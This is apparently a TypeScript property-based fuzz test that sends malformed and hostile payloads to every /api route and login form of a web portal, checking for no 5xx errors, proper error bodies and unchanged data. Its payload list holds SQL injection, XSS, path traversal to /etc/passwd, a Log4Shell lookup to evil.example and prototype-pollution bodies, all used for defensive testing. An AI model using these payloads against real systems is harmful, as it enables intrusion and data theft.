import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from './helper.ts';
import type { TestBrowser } from './browser.ts';
import type { RouteEntry } from '../src/plugins/route-table.ts';
import { anonymous, apiRoutes, fixtures, OPERATOR_TOKEN, personas, PORTAL, prepareSeeded, routeKey, signIn, snapshot, type Fixture, type Persona } from './security-support.ts';

// Issue 10.3: malformed and hostile payloads for every /api route that takes a body or path
// parameters: never a 5xx, a 4xx is always `{ code, message }`, and a refused request leaves
// every table as it was. Fixed seed, so a failure replays; ~25 runs a route keeps CI short.

const SEED = 20_261_121;
const RUNS = 25;
const BODY_LIMIT = 256 * 1024;

const hostileStrings = [
  "' OR '1'='1",
  "'; drop table account; --",
  '1; select pg_sleep(10)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '\u0000',
  'før\u0000etter',
  '\uD800',
  'x\uDFFFy',
  '\u202Egnp.exe',
  '../../../etc/passwd',
  '%00%2e%2e%2f',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  'ÆØÅ æøå 🙂 𝕏',
  ' ',
  '',
  '-1',
  '1e999',
  'NaN',
  '__proto__',
  'constructor',
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  // Any UTF-16 code units: lone surrogates, NUL and control characters included.
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(5_000), 'å'.repeat(70_000), 'a'.repeat(BODY_LIMIT - 200)) },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -1, 1.5, -0.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, 2 ** 63, 40_000_001, 40_000_002),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const { value: hostileValue } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(fc.constantFrom('a', 'id', 'email', '__proto__', 'constructor', 'toString'), tie('value'), { maxKeys: 3 }),
  ),
}));

/** Raw JSON text, so keys like `__proto__` reach the server as own properties. */
const json = (value: unknown) => JSON.stringify(value);
const deepObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** Bodies built around the route's valid fixture body: the shapes that get past a lax check. */
function bodyArbitrary(valid: unknown): fc.Arbitrary<string> {
  const base = valid && typeof valid === 'object' && !Array.isArray(valid) ? (valid as Record<string, unknown>) : {};
  const keys = Object.keys(base);
  const mutated = fc.tuple(fc.subarray(keys), fc.array(fc.tuple(fc.constantFrom(...(keys.length > 0 ? keys : ['x'])), hostileValue), { minLength: 1, maxLength: 3 })).map(([kept, replacements]) => {
    const body: Record<string, unknown> = {};
    for (const key of kept) body[key] = base[key];
    for (const [key, value] of replacements) body[key] = value;
    return json(body);
  });
  return fc.oneof(
    { weight: 5, arbitrary: mutated },
    { weight: 2, arbitrary: hostileValue.map(json) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        `{"__proto__":{"x":1,"isAdmin":true}${keys.length > 0 ? `,${json(base).slice(1, -1)}` : ''}}`,
        `{"constructor":{"prototype":{"x":1}}${keys.length > 0 ? `,${json(base).slice(1, -1)}` : ''}}`,
        json([base]),
        json({ ...base, extra: 'felt som ikke finnes' }),
        deepObject(2_000),
        deepArray(10_000),
        '{"a":',
        'null',
        '"tekst"',
        '{}',
        json({ x: 'y'.repeat(BODY_LIMIT) }),
      ),
    },
  );
}

/** A path parameter: hostile text, URL-encoded (lone surrogates cannot be, so they go as-is). */
const paramArbitrary = fc.oneof(hostileString, hostileNumber.map(String)).map((value) => (/[\uD800-\uDFFF]/.test(value) ? 'x%ED%A0%80y' : encodeURIComponent(value)));

function urlOf(route: RouteEntry, fixture: Fixture, params: Record<string, string>): string {
  const path = route.url.replace(/:(\w+)/g, (_match, name: string) => params[name] ?? encodeURIComponent(String(fixture.params?.[name] ?? 'x')));
  return `${path}${fixture.query ? `?${fixture.query}` : ''}`;
}

/** Refusals that must write, with the reason: the attempt is what a rate limit counts. */
const refusalWrites: Record<string, { tables: string[]; reason: string }> = {
  'POST /api/search-account': {
    tables: ['connect_request', 'verification_code', 'rate_limit_counter'],
    reason: 'every search counts toward the per-user and per-address search limits and gets a code, found or not (issue 20: the answers cannot differ)',
  },
  'POST /api/family/invitations': { tables: ['rate_limit_counter'], reason: 'an invite that passed the input checks counts toward the hourly invitation mail limit (ADR 018), sent or not' },
  'POST /api/family/invitations/:id/resend': { tables: ['rate_limit_counter'], reason: 'a resend counts toward the hourly invitation mail limit (ADR 018), sent or not' },
};

/** The values most likely to get past validation and break storage, tried in every body field first. */
const targeted = ['før\u0000etter', 'x\uD800y', 'a'.repeat(BODY_LIMIT - 300)];

function targetedExamples(fixture: Fixture): { params: Record<string, string> | undefined; body: string | undefined }[] {
  const base = fixture.body && typeof fixture.body === 'object' && !Array.isArray(fixture.body) ? (fixture.body as Record<string, unknown>) : undefined;
  const fromBody = Object.keys(base ?? {}).flatMap((key) => targeted.map((value) => ({ params: undefined, body: json({ ...base, [key]: value }) })));
  const fromParams = Object.keys(fixture.params ?? {}).flatMap((name) => ['f%C3%B8r%00etter', 'x%ED%A0%80y', '9'.repeat(40)].map((value) => ({ params: { [name]: value }, body: undefined })));
  return [...fromBody, ...fromParams];
}

describe('fuzzing every /api route with a body or path parameters (PGlite)', () => {
  let test: TestApp;
  let table: Record<string, Fixture>;
  let routes: RouteEntry[];
  const sessions = new Map<Persona, TestBrowser>();

  beforeAll(async () => {
    test = await buildTestApp('pglite', { seed: true, config: { operatorToken: OPERATOR_TOKEN } });
    for (const persona of Object.keys(personas) as Persona[]) sessions.set(persona, await signIn(test, persona));
    table = fixtures(await prepareSeeded(test, sessions.get('papir') as TestBrowser));
    routes = apiRoutes(test).filter((route) => routeKey(route) in table && (route.method !== 'GET' || route.url.includes(':')));
  });
  afterAll(() => test?.close());

  /** The persona's session; signed in again when a valid payload happened to log it out. */
  async function cookieOf(persona: Persona): Promise<string> {
    let browser = sessions.get(persona) as TestBrowser;
    const alive = await browser.request('GET', `${PORTAL}/api/profile`);
    if (alive.status === 401) sessions.set(persona, (browser = await signIn(test, persona)));
    return [...browser.cookies(new URL(PORTAL).host)].map(([name, value]) => `${name}=${value}`).join('; ');
  }

  it('never answers 5xx, answers 4xx with { code, message }, and changes nothing when it refuses', { timeout: 600_000 }, async () => {
    expect(routes.length).toBeGreaterThan(60);
    const failures: string[] = [];
    let requests = 0;
    for (const route of routes) {
      const fixture = table[routeKey(route)] as Fixture;
      const names = [...route.url.matchAll(/:(\w+)/g)].map((match) => match[1] as string);
      const hasBody = route.method !== 'GET' && route.method !== 'DELETE' ? true : route.method === 'DELETE' && fixture.body !== undefined;
      const cookie = await cookieOf(fixture.owner ?? 'papir');
      const input = fc.record({
        // Either the params or the body is hostile (or both), so each is reached on its own.
        params: names.length > 0 ? fc.option(fc.dictionary(fc.constantFrom(...names), paramArbitrary, { minKeys: 1 }), { nil: undefined }) : fc.constant(undefined),
        body: hasBody ? fc.option(bodyArbitrary(fixture.body), { nil: undefined, freq: names.length > 0 ? 3 : 100 }) : fc.constant(undefined),
      });
      const examples = targetedExamples(fixture);
      const allowed = refusalWrites[routeKey(route)]?.tables ?? [];
      const except = ['user_session', ...allowed];
      // A refusal leaves the tables as they were, so its "after" is the next run's "before".
      let last: Record<string, string> | null = null;
      const result = await fc.check(
        fc.asyncProperty(input, async ({ params, body }) => {
          const before = last ?? (await snapshot(test.database, { except }));
          last = null;
          requests += 1;
          const response = await test.app.inject({
            method: route.method,
            url: urlOf(route, fixture, params ?? {}),
            headers: {
              host: new URL(PORTAL).host,
              cookie,
              'sec-fetch-site': 'same-origin',
              ...(routeKey(route).includes('/operator/') || route.url.startsWith('/api/segment/') ? { authorization: `Bearer ${OPERATOR_TOKEN}` } : {}),
              ...(route.method === 'GET' ? {} : { 'content-type': 'application/json' }),
            },
            ...(route.method === 'GET' ? {} : { payload: body ?? json(fixture.body ?? {}) }),
          });
          const what = `${response.statusCode} ${response.body.slice(0, 300)}`;
          if (response.statusCode >= 500 || response.statusCode < 200 || (response.statusCode >= 300 && response.statusCode < 400)) throw new Error(what);
          if (response.statusCode >= 400) {
            const parsed = JSON.parse(response.body) as { code?: unknown; message?: unknown };
            if (typeof parsed.code !== 'string' || typeof parsed.message !== 'string' || parsed.message === '') throw new Error(`no { code, message }: ${what}`);
            const after = await snapshot(test.database, { except });
            const changed = Object.keys(after).filter((name) => after[name] !== before[name]);
            if (changed.length > 0) throw new Error(`refused with ${what} but changed ${changed.join(', ')}`);
            last = after;
          }
          if (({} as Record<string, unknown>)['x'] !== undefined || ({} as Record<string, unknown>)['isAdmin'] !== undefined) throw new Error('Object.prototype was polluted');
        }),
        // Examples count toward numRuns: RUNS random inputs come on top of them.
        { seed: SEED, numRuns: RUNS + examples.length, endOnFailure: true, examples: examples.map((example) => [example]) },
      );
      if (result.failed) {
        const example = result.counterexample?.[0] as { params?: Record<string, string>; body?: string } | undefined;
        failures.push(
          `${routeKey(route)} params=${JSON.stringify(example?.params)} body=${(example?.body ?? '').slice(0, 200)} → ${String((result.errorInstance as Error | undefined)?.message ?? 'failed').slice(0, 300)}`,
        );
      }
    }
    expect(failures).toEqual([]);
    expect(requests).toBeGreaterThan(routes.length * RUNS);
  });

  // The fuzz is driven by the server's route table; this ties it to the published contract too:
  // an operation of the OpenAPI document that takes input and is not fuzzed fails here. Answers
  // are checked against their schemas by the server itself (the zod serializer refuses a wrong
  // answer with a 500, which the property above fails on).
  it('covers every operation of the OpenAPI document that takes a body or path parameters', async () => {
    type Operation = { requestBody?: unknown; parameters?: { in: string }[] };
    const document = (await test.app.inject({ method: 'GET', url: '/api/docs' })).json<{ paths: Record<string, Record<string, Operation>> }>();
    const fuzzed = new Set(routes.map(routeKey));
    const notFuzzed: string[] = [];
    let operations = 0;
    // The embedded provider's /idp pages are HTML forms of oidc-provider: the next test fuzzes them.
    for (const [path, item] of Object.entries(document.paths).filter(([path]) => path.startsWith('/api/'))) {
      for (const [method, operation] of Object.entries(item)) {
        if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
        const takesInput = method !== 'get' || operation.requestBody !== undefined || (operation.parameters ?? []).some((parameter) => parameter.in === 'path');
        if (!takesInput) continue;
        operations += 1;
        const key = `${method.toUpperCase()} ${path.replace(/\{(\w+)\}/g, ':$1')}`;
        if (!fuzzed.has(key)) notFuzzed.push(key);
      }
    }
    expect(operations).toBeGreaterThan(60);
    expect(notFuzzed).toEqual([]);
  });

  it('answers hostile login and registration forms of the embedded provider with a page, never a 5xx', async () => {
    const browser = anonymous(test);
    const { authorizationUrl } = (await browser.request('GET', `${PORTAL}/api/loginToken?titleCode=ADR`)).json<{ authorizationUrl: string }>();
    const page = await browser.follow(authorizationUrl);
    const action = new URL((/<form[^>]*action="([^"]+)"/.exec(page.response?.body ?? '')?.[1] ?? '').replaceAll('&amp;', '&'), page.url);
    const register = new URL(action.href.replace(/\/login$/, '/register'));
    const before = await snapshot(test.database, { except: ['user_session', 'idp_login_failure', 'idp_payload'] });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(action, register), hostileString, hostileString, async (target, email, password) => {
        const response = await browser.request('POST', target.href, { form: { email, password, givenName: email, familyName: password, passwordRepeat: password } });
        expect(response.status, response.body.slice(0, 200)).toBeLessThan(500);
      }),
      {
        seed: SEED,
        numRuns: 30,
        examples: [
          [action, 'a\u0000b@minside.test', 'x'],
          [register, 'x\uD800@minside.test', 'y'],
          [action, 'a'.repeat(BODY_LIMIT - 300), 'x'],
        ],
      },
    );
    // Failed logins are counted (idp_login_failure); no account appears from a hostile form.
    const after = await snapshot(test.database, { except: ['user_session', 'idp_login_failure', 'idp_payload'] });
    expect(after['idp_account']).toBe(before['idp_account']);
  });
});
